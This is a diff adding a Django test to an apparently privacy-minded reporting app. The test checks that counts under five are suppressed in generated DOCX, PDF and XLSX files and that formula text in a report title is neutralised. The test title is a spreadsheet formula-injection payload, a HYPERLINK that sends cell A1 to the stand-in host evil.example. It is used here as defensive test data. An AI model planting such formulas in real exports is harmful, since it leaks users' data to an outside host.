@@ -345,3 +345,53 @@ def test_services_refuse_people_who_may_not_report(partnership):
             period_start=date(2025, 4, 1),
             period_end=date(2026, 3, 31),
         )
+
+
+def test_small_numbers_are_hidden_in_every_document_and_text_is_never_a_formula(
+    partnership, django_capture_on_commit_callbacks
+):
+    from panels.models import CohortMembership
+
+    p = partnership
+    for number in range(3):
+        nominal = make_nominal(p.coordinator, family_name=f"Few{number}")
+        CohortMembership.objects.create(
+            nominal=nominal,
+            panel=p.panel,
+            status="active",
+            referred_on=date(2025, 1, 1),
+            start=date(2025, 1, 1),
+        )
+    report = report_save(
+        actor=p.committee,
+        report=None,
+        panels=[p.panel],
+        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        period_start=date(2025, 4, 1),
+        period_end=date(2026, 3, 31),
+    )
+    with django_capture_on_commit_callbacks(execute=True):
+        version = version_request(actor=p.committee, report=report, request_token=uuid.uuid4())
+    version.refresh_from_db()
+    cohort = next(item for item in version.figures["headline"] if item["key"] == "cohort_size")
+    assert cohort == {**cohort, "value": None, "display": "fewer than 5", "suppressed": True}
+
+    docx_text, pdf_text = _docx_text(bytes(version.docx)), _pdf_text(bytes(version.pdf))
+    assert "fewer than 5" in docx_text
+    assert "fewer than 5" in pdf_text
+    workbook = load_workbook(io.BytesIO(bytes(version.xlsx)))
+    headline = {
+        row[0]: row[1]
+        for row in workbook["Headline figures"].iter_rows(min_row=2, values_only=True)
+    }
+    assert headline["Cohort size"] == "fewer than 5"
+    # Nowhere does the count of 3 appear as a number of people.
+    assert 3 not in headline.values()
+    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}
+    assert about["Report"].startswith("'=HYPERLINK")
+    assert all(
+        cell.data_type != "f"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+    )
